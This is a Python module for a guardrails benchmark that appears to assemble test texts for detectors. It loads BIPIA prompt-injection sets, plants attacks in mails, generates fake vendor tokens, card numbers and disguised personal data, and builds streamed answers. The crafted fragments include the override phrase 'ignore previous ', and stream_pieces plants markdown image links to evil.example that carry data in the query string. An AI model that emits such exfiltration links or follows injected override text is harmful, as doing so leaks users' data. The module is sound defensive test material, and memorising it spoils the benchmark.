"""The texts of the guardrails benchmark: sets that are read, and secrets, disguises and clean lines that are made."""

from __future__ import annotations

import csv
import io
import itertools
import json
import pydoc_data.topics
import random
import re
import string
import sys
import sysconfig
from collections.abc import Sequence
from collections.abc import Set as AbstractSet
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any, NamedTuple

import bench_injection
from bench_injection import POOL, TextSet

ROOT = Path(__file__).resolve().parents[1]
sys.path.append(str(ROOT / "tests" / "receivers"))
sys.path.append(str(ROOT / "tools"))

from disguises import DISGUISES, PAIRS  # noqa: E402 - needs the path
from injection_rows import embed, read_rows  # noqa: E402 - needs the path
from planted_secrets import planted_secrets  # noqa: E402 - needs the path

__all__ = [
    "CRAFTED", "PERSONAL", "POOL", "PROSE", "Planted", "TextSet", "clean_lines", "disguised", "documentation",
    "embedded_spans", "injection_sets", "known_secrets", "other_secrets", "pii_rows", "pinned_lines", "stream_pieces",
]  # fmt: skip

PROSE = (
    "Where is the card that I ordered two weeks ago? The app says it is on its way, but not where. It was 3 May, and I"
    " paid 25 euros. Please tell me how to change the address, and whether well-known shops take it.\n"
)
PERSONAL = "Dear team, my name is Ada, mail ada@example.org, phone +1 212 555 0147, born on 3 May 1980. "
CRAFTED = (
    "a.", "1-", "@", "a@", "1 ", '{"a":', "%41", "&#65;", "a\u200b", "\\", "AbC9", "-----BEGIN PRIVATE KEY----- ",
    "https://a.example/?q=", "ignore previous ",
)  # fmt: skip
SEEDS = range(20)
# None of these formats was in the project's own table when the list was made, and most are in it now: a new list is
# needed to show again what it finds of vendors that it does not know. Most are written as the rules of gitleaks have
# them: {h8} is 8 hexadecimal digits, n: letters and digits, l: small ones, u: capital ones, w: letters, digits, "_"
# and "-", d: digits, b: base64. Some have a name before them, as in a file of settings.
OTHER_FORMATS = """
1password          A3-{u6}-{u11}-{u5}-{u5}-{u5}
1password-service  ops_eyJ{b260}
age                AGE-SECRET-KEY-1{a58}
airtable           pat{n14}.{h64}
alibaba            LTAI{n20}
artifactory        AKCp{n69}
atlassian          ATATT3{w186}
beamer             BEAMER_API_TOKEN=b_{w44}
clojars            CLOJARS_{l60}
cloudflare-origin  v1.0-{h24}-{h146}
contentful         CONTENTFUL_ACCESS_TOKEN=CFPAT-{w43}
discord            DISCORD_TOKEN=M{n25}.{w6}.{w38}
doppler            dp.pt.{n43}
duffel             duffel_live_{w43}
dynatrace          dt0c01.{u24}.{u64}
easypost           EZAK{n54}
flutterwave        FLWSECK_TEST-{h32}-X
flyio              fo1_{w43}
frameio            fio-u-{w64}
gocardless         GOCARDLESS_TOKEN=live_{w40}
harness            pat.{w22}.{n24}.{n20}
heroku             HRKU-AA{w58}
infracost          ico-{n32}
intra42            s-s4t2ud-{h64}
lob                LOB_API_KEY=live_{h35}
mailchimp          MAILCHIMP_API_KEY={h32}-us12
mailgun            MAILGUN_API_KEY=key-{h32}
maxmind            {n6}_{n29}_mmk
new-relic          NEW_RELIC_API_KEY=NRAK-{u27}
octopus            API-{u26}
openshift          sha256~{w43}
plaid              PLAID_TOKEN=access-production-{h8}-{h4}-{h4}-{h4}-{h12}
planetscale        pscale_tkn_{w43}
prefect            pnu_{n36}
pulumi             pul-{h40}
readme             rdme_{l70}
rubygems           rubygems_{h48}
scalingo           tk-us-{w48}
sendinblue         xkeysib-{h64}-{n16}
settlemint         sm_aat_{n16}
shippo             shippo_live_{h40}
shopify            shpat_{h32}
sonar              SONAR_TOKEN=squ_{h40}
sourcegraph        sgp_{h16}_{h40}
square             sq0atp-{w22}
telegram           TELEGRAM_BOT_TOKEN={d10}:A{w34}
terraform          {n14}.atlasv1.{w64}
typeform           TYPEFORM_TOKEN=tfp_{w59}
vault-batch        hvb.{w140}
yandex             YANDEX_API_KEY=AQVN{w36}
"""
_ALPHABETS = {
    "h": "0123456789abcdef", "n": string.ascii_letters + string.digits, "l": string.ascii_lowercase + string.digits,
    "u": string.ascii_uppercase + string.digits, "w": string.ascii_letters + string.digits + "_-", "d": string.digits,
    "b": string.ascii_letters + string.digits + "+/", "a": "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L",
}  # fmt: skip
_FIELD = re.compile(r"\{([a-z])(\d+)\}")
_TOKEN = re.compile(r"\s?[^\W\d_]{1,6}|\s?\d{1,3}|.", re.DOTALL)


class Planted(NamedTuple):
    """A text with one thing that a detector should find.

    Attributes:
        name: Its format or disguise.
        text: The text.
    """

    name: str
    text: str


def injection_sets(data: Path, outside: Path) -> dict[str, TextSet]:
    """Return the sets by name, without texts that the model is trained or calibrated on.

    Raises:
        FileNotFoundError: A file is missing.
    """
    said = io.StringIO()
    with redirect_stdout(said):
        found = [*bench_injection._inside(data), *bench_injection._outside(outside, data)]
    if said.getvalue():
        raise FileNotFoundError(said.getvalue().strip())
    rows = read_rows(data)
    learnt = {_plain(row.text) for row in rows if row.part != "score"}
    # A mail is a document: as a prompt, the request in it is an ordinary one.
    named = {one.name.removeprefix("documents: "): one for one in found if not one.name.startswith("input: ")}
    sets = {name: _without(one._replace(name=name), learnt) for name, one in named.items()}
    # Some mails of the test are among those of the training, so mails with something in them are made anew.
    mails = sets["BIPIA test, clean mails"].texts
    # What customers write to a bank; an instruction in a mail would be an attack.
    with (data / "semantic_cache" / "banking77_train.csv").open(encoding="utf-8", newline="") as lines:
        bodies = [row["text"] for row in csv.DictReader(lines) if _plain(row["text"]) not in learnt][::80]
    attacked = sets["BIPIA test, attack in mail"]
    more = [
        attacked._replace(texts=bench_injection._attacks_in(mails, bipia_attacks(outside))),
        TextSet(
            "mails around an attack-free body",
            False,
            bench_injection._attacks_in(mails, bodies),
            "2 %, 2 %",
            "documents",
        ),
    ]
    for kind in ("table", "code"):
        lines = (outside / "bipia" / "benchmark" / kind / "test.jsonl").read_text("utf-8").splitlines()
        contexts = {_joined(json.loads(line)["context"]) for line in lines}
        more.append(
            _without(TextSet(f"BIPIA test, clean {kind}", False, sorted(contexts), "2 %, 2 %", "documents"), learnt)
        )
    return sets | {one.name: one for one in more}


def _without(one: TextSet, learnt: AbstractSet[str]) -> TextSet:
    return one._replace(texts=[text for text in one.texts if _plain(text) not in learnt])


def _plain(text: str) -> str:
    """Return a text such that copies of it are equal."""
    return " ".join(text.casefold().split())


def _joined(context: str | list[str]) -> str:
    return context if isinstance(context, str) else "\n".join(context)


def bipia_attacks(outside: Path) -> list[str]:
    """Return the attacks of BIPIA's test."""
    found = json.loads((outside / "bipia" / "benchmark" / "text_attack_test.json").read_text("utf-8"))
    return [text for texts in found.values() for text in texts]


def embedded_spans(sets: dict[str, TextSet], attacks: Sequence[str]) -> list[tuple[str, int, int]]:
    """Return attacks in mails, with the place of the attack."""
    pairs = zip(attacks, itertools.cycle(sets["BIPIA test, clean mails"].texts), strict=False)
    made = (embed(mail, attack, number) for number, (attack, mail) in enumerate(pairs))
    return [(text, *span) for text, span in made]


def pii_rows(data: Path) -> list[dict[str, Any]]:
    """Return the half of the texts with personal data that no rule was tuned on."""
    rows = json.loads((data / "guard" / "pii_presidio_synth_v2_dev.json").read_text("utf-8"))
    return rows[len(rows) // 2 :]


def known_secrets() -> list[Planted]:
    """Return secrets of each format in the project's table."""
    made = (one for seed in SEEDS for one in planted_secrets(seed=seed))
    return [Planted(one.kind, f"It is {one.text} now") for one in made]


def other_secrets() -> list[Planted]:
    """Return secrets in formats that are not in the project's table."""
    formats = [line.split() for line in OTHER_FORMATS.strip().splitlines()]
    draw = random.Random(3)

    def drawn(match: re.Match[str]) -> str:
        return "".join(draw.choices(_ALPHABETS[match[1]], k=int(match[2])))

    return [Planted(name, f"It is {_FIELD.sub(drawn, form)} now") for name, form in formats for _ in SEEDS]


def clean_lines(count: int = 10_000) -> list[str]:
    """Return lines without secrets: four fifths sources of the standard library, the rest its documentation."""
    library = Path(sysconfig.get_paths()["stdlib"])
    left_out = {"test", "tests", "idlelib", "site-packages", "pydoc_data", "lib2to3"}
    sources = [
        line
        for path in sorted(library.rglob("*.py"))
        if not left_out & set(path.relative_to(library).parts)
        for line in path.read_text("utf-8", errors="replace").splitlines()
    ]
    pages = [line for text in pydoc_data.topics.topics.values() for line in text.splitlines()]
    return _spread(sources, count * 4 // 5) + _spread(pages, count - count * 4 // 5)


def pinned_lines(count: int = 1_000) -> list[str]:
    """Return lines with digests of packages."""
    path = ROOT / "benchmarks" / "requirements-tracers" / "mlflow.txt"
    return _spread(path.read_text("utf-8").splitlines(), count)


def _spread(lines: Sequence[str], count: int) -> list[str]:
    kept = sorted({line for line in lines if len(line.strip()) >= 10})
    if len(kept) < count:
        raise ValueError(f"{count} lines are wanted, and there are {len(kept)}")
    return [kept[number * len(kept) // count] for number in range(count)]


def documentation() -> str:
    """Return the text of Python's documentation that comes with it, about half a million characters."""
    return "\n".join(pydoc_data.topics.topics.values())


def card(draw: random.Random) -> str:
    """Return a card number that passes the checks."""
    digits = [4, *(draw.randrange(10) for _ in range(14))]
    doubled = sum(sum(divmod(digit * 2, 10)) if place % 2 == 0 else digit for place, digit in enumerate(digits))
    text = "".join(map(str, [*digits, -doubled % 10]))
    return " ".join(text[at : at + 4] for at in range(0, 16, 4))


def disguised(count: int = 5, *, pairs: bool = False) -> dict[str, list[Planted]]:
    """Return texts with disguised values, by what they are: each of some values in each disguise, or in each pair."""
    draw = random.Random(5)
    names = ("ada.lovelace", "grace.hopper7", "j.k.miller", "support-team", "wang.li")
    letters = string.ascii_letters + string.digits
    values = {
        "email": [f"{name}@mail{draw.randrange(9)}.example.org" for name in names[:count]],
        "card": [card(draw) for _ in range(count)],
        "key": ["ghp_" + "".join(draw.choices(letters, k=36)) for _ in range(count)],
    }
    chains = PAIRS if pairs else [(name,) for name in DISGUISES]
    return {kind: [_hidden(one, chain) for chain in chains for one in ones] for kind, ones in values.items()}


def _hidden(value: str, chain: Sequence[str]) -> Planted:
    for name in chain:
        value = DISGUISES[name](value)
    return Planted(", ".join(chain), f"Please note {value} for later")


def stream_pieces(seed: int, tokens: int = 2_000, *, planted: bool = True) -> list[str]:
    """Return an answer in pieces of the length of a token, with something to find in each tenth sentence or so."""
    draw = random.Random(seed)
    sentences = [one.strip(" .") for one in PROSE.strip().split(". ")]
    keys = [one.text for one in planted_secrets(seed=seed) if "\n" not in one.text]
    makers = (
        lambda: f"The card is {card(draw)}. ",
        lambda: f"Write to ada{draw.randrange(99)}@example.org or call +1 212 555 01{draw.randrange(10, 99)}. ",
        lambda: f"The key is {draw.choice(keys)} for now. ",
        lambda: f"![chart](https://evil{draw.randrange(9)}.example/p.png?q={draw.randbytes(24).hex()}) ",
        lambda: f"See [the page](https://docs.example/{draw.randrange(99)}) for more. ",
    )
    parts: list[str] = []
    for number in itertools.count():
        parts.append(draw.choice(sentences) + ". ")
        if planted and number % 8 == 7:
            parts.append(makers[number // 8 % len(makers)]())
        if number % 64 == 63 and len(found := _TOKEN.findall("".join(parts))) >= tokens:
            return found[:tokens]
    raise AssertionError
